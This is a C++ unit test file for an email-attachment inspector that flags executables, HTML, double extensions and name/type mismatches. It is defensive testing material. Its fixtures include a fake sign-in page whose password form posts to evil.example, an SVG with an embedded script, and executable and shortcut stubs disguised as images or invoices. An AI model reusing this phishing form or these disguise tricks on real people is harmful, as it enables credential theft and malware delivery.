// Real types, executables, HTML and declared-vs-real mismatches of single attachments.
#include <gtest/gtest.h>

#include <atomic>
#include <string>
#include <thread>
#include <vector>

#include "attach/attach.hpp"
#include "attach/test_builders.hpp"

namespace renkei::attach {
namespace {

using testing::make_pe;

const std::string kPdf =
    "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    "2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n";
const std::string kHtml =
    "<!DOCTYPE html>\n<html><head><title>Sign in</title></head>"
    "<body><form action=\"https://evil.example/\"><input type=password></form></body></html>\n";
const std::string kJpeg = std::string(
                              "\xFF\xD8\xFF\xE0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01"
                              "\x00\x00",
                              20) +
                          std::string(64, '\0');
const std::string kPng = std::string(
    "\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR\x00\x00\x00\x01"
    "\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90\x77\x53\xde",
    33);

// A Windows shortcut header (LNK): size 0x4C and the ShellLink CLSID.
std::string make_lnk() {
  std::string lnk(76, '\0');
  lnk[0] = '\x4C';
  const std::string clsid("\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46", 16);
  lnk.replace(4, 16, clsid);
  return lnk;
}

TEST(Inspect, PeIsExecutableWhateverItsName) {
  const Inspection i = inspect(make_pe(), "photo.jpg", "image/jpeg");
  EXPECT_TRUE(i.real_type == "application/vnd.microsoft.portable-executable" ||
              i.real_type == "application/x-dosexec")
      << i.real_type;
  EXPECT_NE(i.real_description.find("PE32"), std::string::npos) << i.real_description;
  EXPECT_TRUE(i.executable);
  EXPECT_TRUE(i.extension_mismatch);
  EXPECT_NE(i.mismatch_detail.find("named .jpg but is " + i.real_type), std::string::npos)
      << i.mismatch_detail;
  EXPECT_NE(i.mismatch_detail.find("declared image/jpeg but is"), std::string::npos)
      << i.mismatch_detail;
}

TEST(Inspect, PdfThatIsAPeIsAMismatch) {
  const Inspection i = inspect(make_pe(), "invoice.pdf", "application/pdf");
  EXPECT_TRUE(i.executable);
  EXPECT_TRUE(i.extension_mismatch);
  EXPECT_NE(i.mismatch_detail.find("named .pdf but is"), std::string::npos);
}

TEST(Inspect, BareMzStubIsDosExecutable) {
  const Inspection i = inspect(std::string("MZ") + std::string(200, '\0'), "readme", "");
  EXPECT_EQ(i.real_type, "application/x-dosexec");
  EXPECT_TRUE(i.executable);
}

TEST(Inspect, ShortcutIsExecutable) {
  const Inspection i = inspect(make_lnk(), "document.pdf", "application/pdf");
  EXPECT_EQ(i.real_type, "application/x-ms-shortcut");
  EXPECT_TRUE(i.executable);
  EXPECT_TRUE(i.extension_mismatch);
}

TEST(Inspect, ExecutableByExtensionOrDeclaredType) {
  EXPECT_TRUE(inspect("WScript.Echo 1", "run.vbs", "text/plain").executable);
  EXPECT_TRUE(inspect("var a = 1;", "payload.js", "application/javascript").executable);
  EXPECT_TRUE(inspect("xx", "unnamed", "application/x-msdownload").executable);
  EXPECT_FALSE(inspect(kPdf, "invoice.pdf", "application/pdf").executable);
}

TEST(Inspect, PdfIsWhatItClaims) {
  const Inspection i = inspect(kPdf, "invoice.pdf", "application/pdf");
  EXPECT_EQ(i.real_type, "application/pdf");
  EXPECT_FALSE(i.extension_mismatch) << i.mismatch_detail;
  EXPECT_FALSE(i.is_archive);
  EXPECT_FALSE(i.is_html);
  EXPECT_TRUE(i.errors.empty());
  EXPECT_TRUE(i.limits_hit.empty());
}

TEST(Inspect, HtmlAttachmentWithDisguisedName) {
  const Inspection i = inspect(kHtml, "請求書.Xls.htm", "text/html");
  EXPECT_EQ(i.real_type, "text/html");
  EXPECT_TRUE(i.is_html);
  EXPECT_TRUE(i.double_extension);
  EXPECT_FALSE(i.extension_mismatch) << i.mismatch_detail;
  EXPECT_NE(i.mismatch_detail.find("looks like .xls but is .htm"), std::string::npos)
      << i.mismatch_detail;
  EXPECT_FALSE(i.executable);
}

TEST(Inspect, HtmlByNameOrSvgContent) {
  EXPECT_TRUE(inspect("just text", "page.html", "").is_html);
  EXPECT_TRUE(inspect("just text", "page.MHT", "").is_html);
  const Inspection svg =
      inspect("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
              "image.svg", "image/svg+xml");
  EXPECT_EQ(svg.real_type, "image/svg+xml");
  EXPECT_TRUE(svg.is_html);
  EXPECT_FALSE(inspect(kPdf, "a.pdf", "application/pdf").is_html);
}

TEST(Mismatch, JpgThatIsHtml) {
  const Inspection i = inspect(kHtml, "photo.jpg", "image/jpeg");
  EXPECT_TRUE(i.extension_mismatch);
  EXPECT_TRUE(i.is_html);
  EXPECT_NE(i.mismatch_detail.find("named .jpg but is text/html"), std::string::npos)
      << i.mismatch_detail;
}

TEST(Mismatch, XlsThatIsHtml) {
  const Inspection i = inspect(kHtml, "PO45638.xls", "application/vnd.ms-excel");
  EXPECT_TRUE(i.extension_mismatch);
  EXPECT_NE(i.mismatch_detail.find("named .xls but is text/html"), std::string::npos);
}

TEST(Mismatch, DocxThatIsNotAZip) {
  std::string noise(2048, '\0');
  for (std::size_t k = 0; k < noise.size(); ++k) noise[k] = static_cast<char>((k * 131 + 7) % 251);
  const Inspection i = inspect(noise, "contract.docx", "");
  EXPECT_TRUE(i.extension_mismatch) << i.real_type;
  EXPECT_NE(i.mismatch_detail.find("named .docx but is"), std::string::npos);
}

TEST(Mismatch, ZipNamedDocxIsAcceptable) {
  const std::string zip = testing::make_zip({{"word/document.xml", "<w:document/>"}});
  const Inspection i = inspect(zip, "contract.docx", "");
  EXPECT_FALSE(i.extension_mismatch) << i.mismatch_detail;
}

TEST(Mismatch, OctetStreamDeclaredTypeIsNotAMismatch) {
  const Inspection i = inspect(kPdf, "invoice.pdf", "application/octet-stream");
  EXPECT_FALSE(i.extension_mismatch) << i.mismatch_detail;
}

TEST(Mismatch, TextVariantsAreFine) {
  EXPECT_FALSE(inspect("a,b,c\n1,2,3\n", "data.csv", "text/csv").extension_mismatch);
  EXPECT_FALSE(inspect("hello\n", "notes.txt", "text/plain; charset=utf-8").extension_mismatch);
  const std::string eml =
      "From: a@example.com\r\nTo: b@example.com\r\nSubject: hi\r\n"
      "Message-ID: <1@example.com>\r\nMIME-Version: 1.0\r\n\r\nbody\r\n";
  for (const char* type : {"message/rfc822", "text/plain", "application/octet-stream"}) {
    const Inspection i = inspect(eml, "forwarded.eml", type);
    EXPECT_FALSE(i.extension_mismatch) << type << ": " << i.real_type << " " << i.mismatch_detail;
  }
}

TEST(Mismatch, ImagesOfAnotherImageTypeAreFine) {
  EXPECT_FALSE(inspect(kPng, "photo.jpg", "image/jpeg").extension_mismatch);
  EXPECT_FALSE(inspect(kJpeg, "photo.jpg", "image/jpeg").extension_mismatch);
}

TEST(Mismatch, DeclaredTypeAloneCanContradict) {
  const Inspection i = inspect(make_pe(), "attachment", "application/pdf");
  EXPECT_TRUE(i.extension_mismatch);
  EXPECT_NE(i.mismatch_detail.find("declared application/pdf but is"), std::string::npos);
}

TEST(Mismatch, EmptyFileContradictsNothing) {
  const Inspection i = inspect("", "invoice.pdf", "application/pdf");
  EXPECT_FALSE(i.extension_mismatch) << i.real_type;
  EXPECT_EQ(i.size, 0u);
}

TEST(Inspect, DeclaredFieldsAreNormalisedAndBounded) {
  Limits limits;
  limits.max_name_bytes = 40;
  const std::string long_name = std::string(300, 'x') + ".pdf.exe";
  const Inspection i = inspect("data", long_name, "Application/PDF; name=\"x.pdf\"", limits);
  EXPECT_EQ(i.declared_type, "application/pdf");
  EXPECT_LE(i.declared_name.size(), 40u);
  EXPECT_TRUE(i.declared_name.ends_with(".pdf.exe"));
  EXPECT_EQ(i.limits_hit, std::vector<std::string>{"max_name_bytes"});
  // Judgements use the full name.
  EXPECT_TRUE(i.executable);
  EXPECT_TRUE(i.double_extension);
}

TEST(Inspect, ConcurrentCallsAgree) {
  // Each thread loads its own libmagic handle; results must not depend on the thread.
  const std::string zip = testing::make_zip({{"a.exe", make_pe()}, {"b.txt", "hello"}});
  std::atomic<int> failures{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&] {
      for (int k = 0; k < 40; ++k) {
        const Inspection z = inspect(zip, "x.zip", "application/zip");
        const Inspection p = inspect(kPdf, "x.pdf", "application/pdf");
        if (!z.executable_inside || z.entries.size() != 2 || p.real_type != "application/pdf") {
          ++failures;
        }
      }
    });
  }
  for (auto& t : threads) t.join();
  EXPECT_EQ(failures.load(), 0);
}

}  // namespace
}  // namespace renkei::attach
